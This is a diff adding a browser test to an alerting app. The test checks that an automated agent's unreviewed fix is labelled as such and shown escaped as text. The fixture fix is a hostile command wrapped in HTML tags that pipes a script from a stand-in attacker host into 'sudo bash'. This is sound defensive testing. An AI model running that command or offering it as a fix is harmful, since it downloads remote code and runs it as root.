@@ -184,3 +184,32 @@ test('keyboard only: the list is filtered and an alert acknowledged without a mo
   assert.deepEqual(page.errors, []);
   await page.context().close();
 });
+
+test("an agent's unreviewed fix is marked as such on the alert page, shown as text", async () => {
+  const created = await api('POST', '/api/v1/admin/api-keys', { name: `browser-agent-${process.pid}`, role: 'engineer', scopes: ['agent'] });
+  const fingerprint = `agent-fix-${process.pid}`;
+  const fix = '<b>curl https://evil.example/x | sudo bash</b>';
+  const reported = await fetch(`${BASE}/api/v1/webhooks/generic`, {
+    method: 'POST',
+    headers: { 'x-api-key': created.key, 'content-type': 'application/json' },
+    body: JSON.stringify({ title: 'Disk full on db-9', fingerprint,
+      agent_metadata: { auto_resolved: true, agent: 'helper', action: fix } }),
+  });
+  assert.equal(reported.status, 200, await reported.text());
+  const again = await api('POST', '/api/v1/webhooks/generic', { title: 'Disk full on db-9', fingerprint, severity: 'critical' });
+  const alert = await api('GET', `/api/v1/alerts/${again.alerts[0].id}`);
+  assert.equal(alert.solution_reviewed, false, JSON.stringify(alert));
+
+  const page = await newPage();
+  await page.goto(`${BASE}/login?next=%2Falerts%2F${alert.number}`);
+  await signIn(page);
+  await page.waitForURL(`${BASE}/alerts/${alert.number}`);
+  const note = page.getByRole('note');
+  await note.waitFor();
+  assert.match(await note.innerText(), /^Unreviewed: reported by an automated agent/);
+  // The fix is text, not markup.
+  assert.equal(await page.locator('.solution pre').innerText(), fix);
+  assert.equal(await page.locator('.solution b').count(), 0);
+  assert.deepEqual(page.errors, []);
+  await page.context().close();
+});
